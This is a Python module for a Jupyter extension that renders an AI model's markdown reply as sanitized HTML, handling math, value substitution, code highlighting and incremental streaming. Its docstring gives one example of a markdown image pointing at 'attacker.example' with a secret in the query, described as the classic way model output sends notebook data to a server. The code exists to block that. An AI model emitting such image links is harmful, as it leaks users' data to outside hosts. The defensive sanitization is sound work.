r"""The response as HTML: safe markdown, math kept as math, ``$name`` filled in, streamed cheaply.

Safety: markdown-it-py's CommonMark with raw HTML off, so ``<script>`` written by the
model comes out as text; links only with ``http``, ``https``, ``mailto`` or no scheme at
all. Images are not loaded unless they are inline ``data:image/{png,jpeg,gif,webp}``:
any other image (``![chart](https://attacker.example/p.png?c=secret)``, the classic way
to send notebook data to a server) becomes a link with its alt text, ``🖼 chart``. Code
is highlighted by Pygments into inline styles, so a saved notebook shows colours with no
stylesheet.

Dollars: ``$name`` is filled before math is read, by the runtime's one rule
(``cortex_jupyter.runtime.core.answer``, which the run record's ``.answer`` and the terminal
use too): this module only renders each span it finds. A value is text (escaped, never
parsed or typeset), except a rich object (a DataFrame, a figure), which shows its rich
form, sanitized as the inspector sanitizes it (``rich.rich_html``).

Math in the HTML: each formula is ``<span class="cortex-math">`` holding the formula with
its own delimiters (``$x$``, ``$$E=mc^2$$``, ``\(x\)``), which JupyterLab / Notebook 7's
MathJax typesets (inline ``$``/``\(``, display ``$$``/``\[``) in text/html outputs and in an
``ipywidgets.HTMLMath``; where no MathJax runs (GitHub, VS Code) it reads as written.
Every other ``$`` and ``\`` in text, and in filled values, is an entity inside
``<span class="mathjax_ignore tex2jax_ignore">``: MathJax 3 breaks its search at element
boundaries and skips that class (MathJax 2 the second), so ``costs $5 and $10`` is never
typeset, and it still reads ``$`` everywhere. The live view must show this HTML with
``ipywidgets.HTMLMath`` (plain ``HTML`` does not typeset). A formula never spans two
blocks, so cutting the HTML at ``cached_html`` never splits one.

Streaming: rendering a 16 KB document costs ~35 ms (NOTES.md), and a reply is redrawn up
to 25 times a second, so ``IncrementalMarkdown`` renders finished blocks once and on each
update re-parses only the tail. A block is finished when the next top-level block starts
on a complete line after a blank line: CommonMark can then no longer change it (nothing
re-opens a closed block after a blank line, and the next block's start line is fixed;
math is inline, inside one block). Two things reach across blocks and are handled by
starting over: link reference definitions (``[x]: url`` anywhere defines ``[x]``
everywhere) and ``$name`` values that changed since a block was cached. The output
equals a full render at every step; the tests check that over many chunkings.
"""

from __future__ import annotations

import re
from collections.abc import Mapping, Sequence
from typing import Any

from markdown_it import MarkdownIt
from markdown_it.common.utils import escapeHtml
from markdown_it.rules_core import StateCore
from markdown_it.rules_inline import StateInline
from markdown_it.token import Token
from markdown_it.utils import EnvType, OptionsDict
from pygments import highlight as pygments_highlight
from pygments.formatters import HtmlFormatter
from pygments.lexer import Lexer
from pygments.lexers import get_lexer_by_name
from pygments.util import ClassNotFound

from cortex_jupyter.runtime.core.answer import lookup, rich_value, scan, show

from . import theme
from .theme import clean, esc

#: The class of the ``<span>`` around each formula; its text is the formula with its
#: delimiters, for the front end's MathJax (render the response with ``HTMLMath``).
MATH_CLASS = "cortex-math"
#: The class of the ``<span>`` around each ``$`` or ``\`` that is text: MathJax 3
#: (``mathjax_ignore``) and MathJax 2 (``tex2jax_ignore``) leave it alone.
LITERAL_CLASS = "mathjax_ignore tex2jax_ignore"
_LITERAL = {
    ord("$"): f'<span class="{LITERAL_CLASS}">&#36;</span>',
    ord("\\"): f'<span class="{LITERAL_CLASS}">&#92;</span>',
}
IMAGE_MARK = "🖼"  # before the alt text of an image shown as a link

_SAFE_SCHEME = re.compile(r"^(?:https?|mailto):", re.IGNORECASE)
_SAFE_IMAGE_DATA = re.compile(r"^data:image/(?:gif|png|jpeg|webp);", re.IGNORECASE)
_HAS_SCHEME = re.compile(r"^[a-z][a-z0-9+.\-]*:", re.IGNORECASE)
_MAYBE_DEFINITION = re.compile(r"^ {0,3}\[", re.MULTILINE)
_MAX_HIGHLIGHT = 200_000  # characters; beyond this a code block is shown plain

_PRE_CODE_STYLE = "background:none;color:inherit;padding:0"
_PRE_STYLE = (
    f"background:{theme.CODE_BG};color:{theme.TEXT};padding:8px 10px;border-radius:6px;"
    f"overflow-x:auto;font-family:{theme.MONO};font-size:12.5px;line-height:1.45;margin:0 0 1em"
)
_CODE_STYLE = (
    f"background:{theme.CODE_BG};color:{theme.TEXT};padding:0.1em 0.3em;border-radius:4px;"
    f"font-family:{theme.MONO};font-size:0.92em"
)
_LINK_REL = "noopener noreferrer nofollow"

# --------------------------------------------------------------------------- dollars


def _math_html(opener: str, formula: str, closer: str) -> str:
    return f'<span class="{MATH_CLASS}">{opener}{escapeHtml(formula)}{closer}</span>'


def _text_html(text: str) -> str:
    """Escaped text whose ``$`` and ``\\`` MathJax will not read as math."""
    html = escapeHtml(text)
    return html.translate(_LITERAL) if ("$" in html or "\\" in html) else html


# --------------------------------------------------------------------------- code


class _Highlighter:
    """Pygments with inline styles; lexers are looked up once per language name."""

    def __init__(self) -> None:
        self._formatter = HtmlFormatter(nowrap=True, noclasses=True, style=theme.PYGMENTS_STYLE)
        self._lexers: dict[str, Lexer | None] = {}

    def __call__(self, code: str, lang: str) -> str:
        lexer = self._lexer(lang) if lang and len(code) <= _MAX_HIGHLIGHT else None
        inner = esc(code) if lexer is None else pygments_highlight(code, lexer, self._formatter)
        label = f' data-lang="{esc(lang)}"' if lang else ""
        # The inner <code> is styled too: JupyterLab's dark theme paints a bare one black.
        code = f'<code style="{_PRE_CODE_STYLE}">{inner}</code>'
        return f'<pre style="{_PRE_STYLE}"{label}>{code}</pre>\n'

    def _lexer(self, lang: str) -> Lexer | None:
        key = lang.lower()
        if key not in self._lexers:
            try:
                self._lexers[key] = get_lexer_by_name(key, stripnl=False, ensurenl=False)
            except ClassNotFound:
                self._lexers[key] = None
        return self._lexers[key]


# --------------------------------------------------------------------------- the parser


def _validate_link(url: str) -> bool:
    url = url.strip()
    if _SAFE_SCHEME.match(url) or _SAFE_IMAGE_DATA.match(url):
        return True
    return not _HAS_SCHEME.match(url)  # relative links and anchors carry no scheme


def _dollars(state: StateInline, silent: bool) -> bool:
    """Inline rule: math, the protocol's ``$$`` and ``$name`` references (see the
    module's docstring). Runs before the escape rule, which would read ``\\(`` as ``(``."""
    src, pos = state.src, state.pos
    if src[pos] != "$" and src[pos] != "\\":
        return False
    values = state.env.get("cortex_values") or {}
    used = state.env.setdefault("cortex_used", {})
    span = scan(src, pos, state.posMax, values, used)
    if span is None:
        return False
    if not silent:
        if span.kind == "math":
            token = state.push("math", "", 0)
            token.content, token.markup, token.info = span.formula, span.opener, span.closer
        elif span.kind == "literal":
            state.pending += "$"
        else:
            token = state.push("cortex_ref", "", 0)
            token.content = f"${span.name}{span.path}"
            token.meta = {"name": span.name, "path": span.path}
    state.pos = span.end
    return True


def _fill_values(state: StateCore) -> None:
    """Core rule: each ``$name`` reference becomes the text it shows, from
    ``env["cortex_values"]``; ``env["cortex_used"]`` records what each showed. Images
    inside a link are marked (``meta["in_link"]``) for the renderer. A paragraph that
    is one rich value alone is that value's block, with no ``<p>`` around it (a table
    inside a ``<p>`` would end the paragraph and leave its wrapper)."""
    values = state.env.get("cortex_values") or {}
    used = state.env.setdefault("cortex_used", {})
    tokens = state.tokens
    for index, token in enumerate(tokens):
        if token.type != "inline" or not token.children:
            continue
        if "$" in token.content:
            _fill_tokens(token.children, values, used)
            alone = [t for t in token.children if t.type != "text" or t.content.strip()]
            if (
                len(alone) == 1
                and alone[0].type == "cortex_rich"
                and 0 < index < len(tokens) - 1
                and tokens[index - 1].type == "paragraph_open"
            ):
                tokens[index - 1].hidden = tokens[index + 1].hidden = True
        if "![" in token.content:
            _mark_images_in_links(token.children)


def _fill_tokens(
    tokens: Sequence[Token], values: Mapping[str, Any], used: dict[str, str | None]
) -> None:
    for token in tokens:
        if token.type == "cortex_ref":
            token.type = "text"  # shown as text: escaped, never parsed or typeset
            name, path = token.meta["name"], token.meta["path"]
            token.content = show(name, path, values, used)
            rich = rich_value(name, path, values)
            if rich is not None:  # a DataFrame, a figure: shown as a notebook shows it
                token.type = "cortex_rich"
                token.meta["value"] = rich
        elif token.children:  # an image's alt text
            _fill_tokens(token.children, values, used)


def _alt_text(tokens: Sequence[Token] | None) -> str:
    """An image's alt text, markup dropped (CommonMark), math kept as written."""
    out: list[str] = []
    for token in tokens or ():
        if token.type in ("text", "code_inline"):
            out.append(token.content)
        elif token.type == "math":
            out.append(f"{token.markup}{token.content}{token.info}")
        elif token.type in ("softbreak", "hardbreak"):
            out.append(" ")
        elif token.children:
            out.append(_alt_text(token.children))
    return "".join(out)


def _alt_tokens(tokens: Sequence[Token] | None) -> list[Token]:
    """An image's alt text as tokens to render inside the link that stands for it:
    links and images in it give only their text (no ``<a>`` inside an ``<a>``)."""
    out: list[Token] = []
    for token in tokens or ():
        if token.type == "image":
            out += _alt_tokens(token.children)
        elif token.type not in ("link_open", "link_close"):
            out.append(token)
    return out


def _mark_images_in_links(tokens: Sequence[Token]) -> None:
    depth = 0
    for token in tokens:
        depth += (token.type == "link_open") - (token.type == "link_close")
        if token.type == "image" and depth > 0:
            token.meta["in_link"] = True


def make_parser(highlight: bool = True) -> MarkdownIt:
    """A markdown-it parser with our safety settings, tables, strikethrough, code, math
    and ``$name`` references."""
    md = MarkdownIt("commonmark", {"html": False})
    md.enable(["table", "strikethrough"])
    md.validateLink = _validate_link  # type: ignore[method-assign]
    md.inline.ruler.before("escape", "cortex_dollars", _dollars)
    md.core.ruler.after("text_join", "cortex_values", _fill_values)
    highlighter = _Highlighter()

    def fence(
        self: Any, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
    ) -> str:
        token = tokens[idx]
        lang = token.info.strip().split(maxsplit=1)[0] if token.info.strip() else ""
        return highlighter(token.content, lang if highlight else "")

    def code_block(
        self: Any, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
    ) -> str:
        return highlighter(tokens[idx].content, "")

    def code_inline(
        self: Any, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
    ) -> str:
        return f'<code style="{_CODE_STYLE}">{esc(tokens[idx].content)}</code>'

    def text(
        self: Any, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
    ) -> str:
        return _text_html(tokens[idx].content)

    def math(
        self: Any, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
    ) -> str:
        token = tokens[idx]
        return _math_html(token.markup, token.content, token.info)

    def cortex_rich(
        self: Any, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
    ) -> str:
        from .rich import rich_html  # sanitized: only inert tags, every text escaped

        # Whatever `$` or `\\` a table holds is text: MathJax skips this class. A block
        # (a browser would end a <p> at the table anyway), so the class stays on it.
        return f'<div class="{LITERAL_CLASS}">{rich_html(tokens[idx].meta["value"])}</div>'

    def link_open(
        self: Any, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
    ) -> str:
        # A click must not navigate the notebook's own page away.
        tokens[idx].attrSet("target", "_blank")
        tokens[idx].attrSet("rel", _LINK_REL)
        return str(self.renderToken(tokens, idx, options, env))

    def image(
        self: Any, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
    ) -> str:
        token = tokens[idx]
        src = str(token.attrGet("src") or "")
        title = token.attrGet("title")
        if _SAFE_IMAGE_DATA.match(src):  # inline data: nothing is fetched
            extra = f' title="{escapeHtml(str(title))}"' if title else ""
            alt = escapeHtml(_alt_text(token.children))
            return f'<img src="{escapeHtml(src)}" alt="{alt}"{extra}>'
        # Anything else would be fetched by every reader's browser, with whatever the
        # model put in its URL: shown as a link to it instead, only followed on a click.
        alt = self.renderInline(_alt_tokens(token.children), options, env).strip() or "image"
        label = f"{IMAGE_MARK} {alt}"
        if token.meta.get("in_link"):  # the enclosing link is the link (no <a> in <a>)
            return label
        hint = escapeHtml(f"Image not loaded: {src}")
        return (
            f'<a href="{escapeHtml(src)}" target="_blank" rel="{_LINK_REL}" title="{hint}">'
            f"{label}</a>"
        )

    for name, rule in (
        ("fence", fence),
        ("code_block", code_block),
        ("code_inline", code_inline),
        ("text", text),
        ("math", math),
        ("cortex_rich", cortex_rich),
        ("link_open", link_open),
        ("image", image),
    ):
        md.add_render_rule(name, rule)
    return md


_default_parser: MarkdownIt | None = None


def render_markdown(text: str, values: Mapping[str, Any] | None = None) -> str:
    """The whole of ``text`` as HTML in one go (a saved snapshot, or a reference)."""
    global _default_parser
    if _default_parser is None:
        _default_parser = make_parser()
    env: dict[str, Any] = {"cortex_values": values or {}}
    return str(_default_parser.render(_normalize(text), env))


def _normalize(text: str) -> str:
    """What markdown-it does to its input first (line breaks), done up front so offsets
    agree, and the characters no HTML document may hold (control characters, lone
    surrogates, which would also break saving the notebook as UTF-8) replaced."""
    if "\r" in text:
        text = text.replace("\r\n", "\n").replace("\r", "\n")
    return clean(text)


# --------------------------------------------------------------------------- streaming


class IncrementalMarkdown:
    """Renders a growing markdown document, re-parsing only its unfinished tail.

    Call ``render(text, values)`` with the whole text so far on every redraw. Counters
    for the benchmark and the tests: ``renders`` (calls), ``restarts`` (full re-renders
    forced by a new link definition, a changed value or a text that is not an
    extension of the last one), ``parsed_chars`` (characters parsed, in total) and
    ``last_parsed`` (in the last call).
    """

    def __init__(self, parser: MarkdownIt | None = None) -> None:
        self._md = parser if parser is not None else make_parser()
        self.renders = 0
        self.restarts = 0
        self.parsed_chars = 0
        self.last_parsed = 0
        self.reset()

    def reset(self) -> None:
        """Forget every cached block."""
        self._done_src = ""
        self._done_html = ""  # the HTML of the cached (finished) blocks
        self._committed_refs: dict[str, Any] = {}  # link labels defined in cached blocks
        self._render_refs: dict[str, Any] = {}  # all labels the cached HTML was made with
        self._used: dict[str, str | None] = {}

    @property
    def cached_chars(self) -> int:
        """Characters of source whose HTML is cached (not parsed again)."""
        return len(self._done_src)

    @property
    def cached_html(self) -> str:
        """The HTML of the blocks already finished: settled until the next restart.

        Every ``render`` returns it as a prefix, so a view may send it once and then
        only what follows it.
        """
        return self._done_html

    def render(self, text: str, values: Mapping[str, Any] | None = None) -> str:
        self.renders += 1
        text = _normalize(text)
        values = values or {}
        if self._done_src and (not text.startswith(self._done_src) or self._stale(values)):
            self.restarts += 1
            self.reset()
        html = self._render_tail(text, values)
        if html is None:  # the tail defined a link label the cached blocks may use
            self.restarts += 1
            self.reset()
            html = self._render_tail(text, values)
            assert html is not None
        return html

    def _stale(self, values: Mapping[str, Any]) -> bool:
        return any(lookup(ref, values) != shown for ref, shown in self._used.items())

    def _render_tail(self, text: str, values: Mapping[str, Any]) -> str | None:
        tail = text[len(self._done_src) :]
        env: dict[str, Any] = {
            "references": dict(self._committed_refs),
            "cortex_values": values,
            "cortex_used": {},
        }
        tokens = self._md.parse(tail, env)
        self.parsed_chars += len(tail)
        self.last_parsed = len(tail)
        if not self._done_src:
            self._render_refs = dict(env["references"])
        elif env["references"] != self._render_refs:
            return None  # a link label appeared or changed: cached blocks may use it
        cut = _finished(tokens, tail)
        options = self._md.options
        if cut is None:
            return self._done_html + str(self._md.renderer.render(tokens, options, env))
        index, offset = cut
        self._done_html += str(self._md.renderer.render(tokens[:index], options, env))
        self._commit(tail[:offset])
        self._used.update(env["cortex_used"])
        return self._done_html + str(self._md.renderer.render(tokens[index:], options, env))

    def _commit(self, source: str) -> None:
        self._done_src += source
        if _MAYBE_DEFINITION.search(source):
            env: dict[str, Any] = {"references": dict(self._committed_refs)}
            self._md.parse(source, env)
            self._committed_refs = env["references"]


def _finished(tokens: Sequence[Token], tail: str) -> tuple[int, int] | None:
    """Where the finished blocks of ``tail`` end: (token index, character offset).

    The cut goes before the last top-level block that starts on a complete line right
    after a blank line; ``None`` when there is no such block yet.
    """
    lines = tail.split("\n")
    complete = len(lines) - 1  # the last line may still be growing
    for index in range(len(tokens) - 1, 0, -1):
        token = tokens[index]
        if token.level != 0 or token.nesting == -1 or token.map is None:
            continue
        line = token.map[0]
        if 0 < line < complete and not lines[line - 1].strip(" \t"):
            offset = sum(len(lines[i]) + 1 for i in range(line))
            return index, offset
    return None
